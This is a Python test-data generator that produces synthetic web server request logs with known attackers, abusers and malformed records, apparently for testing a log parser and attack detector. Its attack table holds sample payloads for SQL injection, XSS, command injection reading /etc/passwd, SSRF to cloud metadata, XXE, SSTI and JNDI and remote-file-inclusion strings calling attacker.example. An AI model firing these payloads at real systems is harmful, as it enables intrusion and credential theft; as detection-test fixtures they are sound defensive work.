"""Made-up request logs with a known truth: which clients attack, which abuse, and which records are no records."""
import json
import random
from datetime import datetime, timezone

BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
START = datetime(2025, 1, 15, 12, 0, tzinfo=timezone.utc).timestamp()

# One plain attack per family: fields of the flat profile that differ from a benign request.
ATTACKS = {
    'sqli': {'path': '/items', 'query': 'id=7%27%20UNION%20SELECT%20login%2Cpassword%20FROM%20accounts--%20'},
    'xss': {'path': '/search', 'query': 'q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E'},
    'cmdi': {'path': '/ping', 'query': 'host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd'},
    'traversal': {'path': '/download', 'query': 'file=..%2F..%2F..%2F..%2Fetc%2Fpasswd'},
    'nosql': {'path': '/login', 'query': 'user%5B%24ne%5D=nobody&password%5B%24gt%5D='},
    'ldap': {'path': '/people', 'query': 'name=*)(uid%3D*))(%7C(uid%3D*'},
    'ssrf': {'path': '/preview', 'query': 'url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F'},
    'ssti': {'path': '/hello', 'query': 'name=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D'},
    'xxe': {'path': '/import', 'method': 'POST', 'content_type': 'application/xml',
            'body': '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>'},
    'rce': {'path': '/', 'user_agent': '${jndi:ldap://attacker.example/x}'},
    'rfi': {'path': '/index.php', 'query': 'page=http%3A%2F%2Fattacker.example%2Fshell.txt%3F'},
    'crlf': {'path': '/go', 'query': 'lang=en%0d%0aSet-Cookie%3A%20session%3Downed'},
}
# Those that any rule set finds, for tests that count.
SURE_ATTACKS = ('sqli', 'xss', 'traversal', 'rce')


def record(number, seconds, client, ip, **fields):
    """One request of the flat profile as bytes; `seconds` counts from START."""
    when = datetime.fromtimestamp(START + seconds, timezone.utc)
    whole = {
        'ts': when.isoformat(timespec='milliseconds').replace('+00:00', 'Z'), 'request_id': f'r{number:08d}',
        'client_id': client, 'ip': ip, 'method': 'GET', 'scheme': 'https', 'host': 'shop.example.com',
        'path': f'/products/{number % 9973}', 'query': f'page={number % 17}&sort=name', 'status': 200,
        'duration_ms': 12.5, 'request_bytes': 420, 'response_bytes': 5120, 'user_agent': BROWSER,
        'referer': 'https://shop.example.com/', 'headers': {'accept': 'text/html', 'accept-language': 'en-GB'},
    }
    whole.update(fields)
    return json.dumps(whole, separators=(',', ':')).encode()


def address(number):
    """A distinct public-looking address per number below 2^22."""
    return f'81.{64 + (number >> 16 & 63)}.{number >> 8 & 255}.{number & 255}'


def benign(count, first=0, clients=2000, rate=1000.0, seed=1):
    """Yields requests of well-behaved clients: one address and one browser each, no regular timing."""
    chance = random.Random(seed + first)
    for number in range(first, first + count):
        client = chance.randrange(clients)
        yield record(number, number / rate + chance.random() * 0.01, f'customer-{client}', address(client))


def with_attacks(count, every=100, first=0):
    """(records, attackers): benign traffic in which each `every`-th record is the only attack of a client of its own."""
    records, attackers = [], set()
    for position, line in enumerate(benign(count, first)):
        number = first + position
        if position % every == every // 2:
            client = f'attacker-{number}'
            family = SURE_ATTACKS[(position // every) % len(SURE_ATTACKS)]
            line = record(number, number / 1000.0, client, address(100000 + number), **ATTACKS[family])
            attackers.add(client)
        records.append(line)
    return records, attackers


def abuser(client='abuser-1', first=9_000_000, seconds=0.0):
    """Ten requests from six addresses with four user agents, at irregular times: 30 + 20 points."""
    gaps = [0, 0.3, 2.1, 2.4, 5.9, 6.0, 9.7, 11.2, 15.5, 15.9]
    return [record(first + i, seconds + gap, client, address(200000 + i % 6),
                   user_agent=BROWSER.replace('128', str(120 + i % 4))) for i, gap in enumerate(gaps)]


def every_kind_in_two_parts(quiet_seconds=400):
    """(attacks of every family, an abuser and an attacker who goes on; what comes so much later that episodes close)"""
    first, number = [], 8_000_000
    for family, fields in ATTACKS.items():
        first.append(record(number, 1 + number % 100, f'attacker-{family}', address(300000 + number % 1000), **fields))
        number += 1
    for i in range(12):
        first.append(record(number + i, 20 + i * 1.7, 'attacker-persistent', address(310000), **ATTACKS['sqli']))
    first += abuser(seconds=30)
    first += benign(4000, clients=500)
    chance = random.Random(5)
    later = []
    for i in range(4000):                 # enough clients for the time of every partition to move on
        client = chance.randrange(500)
        later.append(record(7_000_000 + i, quiet_seconds + 60 + i * 0.05, f'customer-{client}', address(client)))
    return first, later


def every_kind():
    first, later = every_kind_in_two_parts()
    return first + later


# What may arrive in place of a record, and the reasons that may be given for it.
def bad_records():
    """{name: (bytes, reasons)}"""
    good = record(1, 1, 'customer-1', address(1))
    text = good.decode()

    def changed(old, new):
        assert old in text
        return text.replace(old, new).encode()
    return {
        'empty': (b'', {'empty'}),
        'blank': (b'   ', {'empty', 'invalid_json'}),
        'cut_before_its_request': (good[:20], {'missing_field'}),
        'not_json': (b'127.0.0.1 - - [15/Jan/2025:12:00:00 +0000] "GET / HTTP/1.1" 200 512', {'invalid_json'}),
        'nested_10000': (b'{"a":' * 10_000 + b'1' + b'}' * 10_000, {'too_deep', 'invalid_json'}),
        'nested_arrays_10000': (good[:-1] + b',"x":' + b'[' * 10_000 + b']' * 10_000 + b'}', {'too_deep', 'invalid_json'}),
        'nul_bytes': (b'\0' * 64, {'empty'}),
        'only_ff': (b'\xff' * 64, {'invalid_json'}),
        'array': (b'[1]', {'invalid_json'}),
        'empty_array': (b'[]', {'not_an_object'}),
        'number': (b'42', {'invalid_json'}),
        'null': (b'null', {'invalid_json'}),
        'string': (b'"GET /"', {'invalid_json'}),
        'no_request': (b'{"ts":"2025-01-15T12:00:00Z","host":"shop.example.com"}', {'missing_field'}),
        'nobody_did_it': (b'{"ts":"2025-01-15T12:00:00Z","method":"GET","status":400}', {'missing_field'}),
    }


def tolerated_records():
    """{name: bytes}: odd, and yet requests that must be judged, not lost."""
    attack = record(2, 2, 'attacker-odd', address(2), **ATTACKS['sqli'])
    return {
        'ff_in_query': attack.replace(b'id=7', b'id=7\xff'),
        'nul_escape': attack.replace(b'id=7', rb'id=7\u0000'),
        'unknown_fields': attack[:-1] + b',"zz":[{"a":[1,2,{"b":null}]}]}',
        'space_around': b'  ' + attack + b' \t',
        'status_is_object': attack.replace(b'"status":200', b'"status":{}'),
        'status_out_of_range': attack.replace(b'"status":200', b'"status":99999999999'),
        'status_of_two_upstreams': attack.replace(b'"status":200', b'"status":"502, 200"'),
        'time_is_wrong': attack.replace(b'2025-01-15T', b'yesterday '),
        'key_twice': attack.replace(b'"method":"GET"', b'"method":"GET","method":"POST"'),
        'value_missing': attack.replace(b'"status":200', b'"status":'),
        'not_a_number': attack[:-1] + b',"x":NaN,"y":007,"z":18446744073709551616}',
        'raw_tab_and_quote': attack.replace(b'"user_agent":"', b'"user_agent":"a\tb" c '),
        'bad_escape': attack.replace(b'"user_agent":"', rb'"user_agent":"\q'),
        'hex_escape': attack.replace(b'"user_agent":"', rb'"user_agent":"caf\xc3\xa9 \xff '),
        'trailing_garbage': attack + b' x',
        'cut_off_at_its_end': attack[:attack.index(b'"referer"') + 20],
        'behind_a_syslog_header': b'<134>Jan 15 12:00:00 web1 nginx: ' + attack,
        'behind_a_container_prefix': b'2025-01-15T12:00:00.123456789Z stdout F ' + attack,
        'in_a_schema_registry_frame': b'\0\0\0\0\x2a' + attack,
        'alone_in_a_list': b'[' + attack + b']',
    }


def huge_record(size=10 * 1024 * 1024):
    """A well-formed request with a 10 MB body."""
    return record(3, 3, 'customer-3', address(3), method='POST', body='a' * size)


def main(arguments):
    """`python traffic.py COUNT FILE` writes that many requests, 1 % of them attacks."""
    count, path = int(arguments[0]), arguments[1]
    with open(path, 'wb') as file:
        for first in range(0, count, 10_000):
            records, _ = with_attacks(min(10_000, count - first), first=first)
            file.write(b'\n'.join(records) + b'\n')


if __name__ == '__main__':
    import sys
    main(sys.argv[1:])
